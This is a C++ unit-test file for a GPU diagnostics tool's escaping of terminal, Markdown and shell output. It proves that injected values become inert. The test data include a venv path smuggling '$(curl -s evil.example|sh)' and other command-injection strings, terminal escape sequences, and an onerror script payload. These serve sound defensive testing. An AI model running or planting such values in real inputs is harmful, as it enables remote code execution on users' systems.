// Escaping for terminals, Markdown and printed shell commands (core/escape.cpp).

#include <gtest/gtest.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <string>

#include "core/escape.hpp"

namespace gpudoctor {
namespace {

TEST(EscapeTerminal, ControlCharactersBecomeVisible) {
  // An OSC title change as found in an os-release PRETTY_NAME, a screen clear, CR, BEL, DEL.
  EXPECT_EQ(escape::terminal("Ubuntu\x1b]0;pwned\x07 22.04"), "Ubuntu\\x1b]0;pwned\\x07 22.04");
  EXPECT_EQ(escape::terminal("venv\x1b[2J"), "venv\\x1b[2J");
  EXPECT_EQ(escape::terminal("ok\rhealthy\n"), "ok\\rhealthy\\n");
  EXPECT_EQ(escape::terminal("a\tb\x7f"), "a\\tb\\x7f");
  EXPECT_EQ(escape::terminal(std::string("a\0b", 3)), "a\\x00b");
  // C1 controls as UTF-8 (CSI U+009B, OSC U+009D) and as raw bytes that are not UTF-8.
  EXPECT_EQ(escape::terminal("x\xc2\x9b"
                             "2Jy"),
            "x\\u009b2Jy");
  EXPECT_EQ(escape::terminal("x\x9b"
                             "2J\xff"),
            "x\\x9b2J\\xff");
  // Bidirectional overrides (the "Trojan source" trick) and the line separator.
  EXPECT_EQ(escape::terminal("lib\xe2\x80\xae"
                             "os.so"),
            "lib\\u202eos.so");
  EXPECT_EQ(escape::terminal("a\xe2\x80\xa8"
                             "b"),
            "a\\u2028b");
  // Overlong forms and surrogates are not UTF-8.
  EXPECT_EQ(escape::terminal("\xc0\xaf"), "\\xc0\\xaf");
  EXPECT_EQ(escape::terminal("\xed\xa0\x80"), "\\xed\\xa0\\x80");
  EXPECT_TRUE(escape::has_control("\x1b"));
}

TEST(EscapeTerminal, OrdinaryTextIsUnchanged) {
  // Near misses: UTF-8 text, the ellipsis and check marks the reports print, backslashes in a
  // Windows path, a literal "\x1b" typed as four characters.
  for (const std::string s : {"NVIDIA GeForce RTX 3090", "Debian GNU/Linux 12 (bookworm) — ünïcødé", "…/site-packages/torch",
                              "[✓] Driver", "C:\\Users\\me", "\\x1b", "日本語", "\xf0\x9f\x9a\x80"}) {
    EXPECT_EQ(escape::terminal(s), s);
    EXPECT_FALSE(escape::has_control(s)) << s;
  }
}

TEST(EscapeMarkdown, CellsKeepTheirShapeAndRenderAsText) {
  EXPECT_EQ(escape::markdown("a|b"), "a\\|b");
  EXPECT_EQ(escape::markdown("`rm -rf`"), "\\`rm -rf\\`");
  EXPECT_EQ(escape::markdown("[click](https://evil.example)"), "\\[click\\](https://evil.example)");
  EXPECT_EQ(escape::markdown("<img src=x onerror=alert(1)>"), "\\<img src=x onerror=alert(1)\\>");
  EXPECT_EQ(escape::markdown("&#x202e;"), "\\&#x202e;");
  EXPECT_EQ(escape::markdown("nvidia-*"), "nvidia-\\*");
  EXPECT_EQ(escape::markdown("C:\\x"), "C:\\\\x");
  // Control characters are shown, and their backslash is escaped so that it renders.
  EXPECT_EQ(escape::markdown("x\x1b]0;t\x07"), "x\\\\x1b\\]0;t\\\\x07");
  EXPECT_EQ(escape::markdown("two\nlines"), "two\\\\nlines");
  // Near miss: ordinary words, versions, paths and underscores stay readable.
  EXPECT_EQ(escape::markdown("libcudnn_ops.so.9 9.1.0 /usr/lib/x86_64-linux-gnu"), "libcudnn_ops.so.9 9.1.0 /usr/lib/x86_64-linux-gnu");
}

TEST(EscapeMarkdown, CodeSpansFenceBackticksAndPipesInTables) {
  EXPECT_EQ(escape::markdown_code("/usr/lib", false), "`/usr/lib`");
  EXPECT_EQ(escape::markdown_code("a`b", false), "``a`b``");
  EXPECT_EQ(escape::markdown_code("`x`", false), "`` `x` ``");
  EXPECT_EQ(escape::markdown_code("", false), "` `");
  EXPECT_EQ(escape::markdown_code("a|b", true), "`a\\|b`");
  EXPECT_EQ(escape::markdown_code("a|b", false), "`a|b`");
  EXPECT_EQ(escape::markdown_code("E\x1b[2J", true), "`E\\x1b[2J`");
}

// Runs `sh -c 'printf %s <word>'` with `shell` and returns what the word expanded to.
std::string through_shell(const char* shell, const std::string& word) {
  std::string script = "printf %s " + word;
  int fds[2];
  if (::pipe(fds) != 0) return "<pipe failed>";
  pid_t pid = ::fork();
  if (pid == 0) {
    ::dup2(fds[1], 1);
    ::close(fds[0]);
    ::execlp(shell, shell, "-c", script.c_str(), static_cast<char*>(nullptr));
    ::_exit(127);
  }
  ::close(fds[1]);
  std::string out;
  char buf[256];
  for (ssize_t n; (n = ::read(fds[0], buf, sizeof buf)) > 0;) out.append(buf, static_cast<size_t>(n));
  ::close(fds[0]);
  int status = 0;
  ::waitpid(pid, &status, 0);
  if (!WIFEXITED(status) || WEXITSTATUS(status) != 0) return "<" + std::string(shell) + " failed on " + script + ">";
  return out;
}

TEST(EscapeShell, PlainWordsStayReadable) {
  EXPECT_EQ(escape::shell("/opt/conda/envs/tf-2.15/bin/activate"), "/opt/conda/envs/tf-2.15/bin/activate");
  EXPECT_EQ(escape::shell("tensorflow[and-cuda]==2.15.1"), "'tensorflow[and-cuda]==2.15.1'");
  EXPECT_EQ(escape::shell(""), "''");
  EXPECT_EQ(escape::shell("it's"), "'it'\\''s'");
}

TEST(EscapeShell, HostileVenvPathsAreOneLiteralWord) {
  const std::string values[] = {
      "/home/u/venv$(curl -s evil.example|sh)/bin/activate",
      "/home/u/my venv/bin/activate",
      "/home/u/`touch /tmp/gd-pwned`",
      "/home/u/it's \"quoted\"",
      "/home/u/a\nb; touch /tmp/gd-pwned",
      "/home/u/\x1b]0;pwned\x07",
      "/home/u/back\\slash $HOME ${PATH} !! *?[a]",
      "/home/u/\xff\xfe raw",
  };
  for (const auto& v : values) {
    std::string q = escape::shell(v);
    EXPECT_FALSE(escape::has_control(q)) << q;  // one line of visible text
    EXPECT_EQ(q.find('\n'), std::string::npos) << q;
    EXPECT_EQ(through_shell("bash", q), v) << q;
    if (!escape::has_control(v)) EXPECT_EQ(through_shell("sh", q), v) << q;  // POSIX: single quotes
  }
}

}  // namespace
}  // namespace gpudoctor
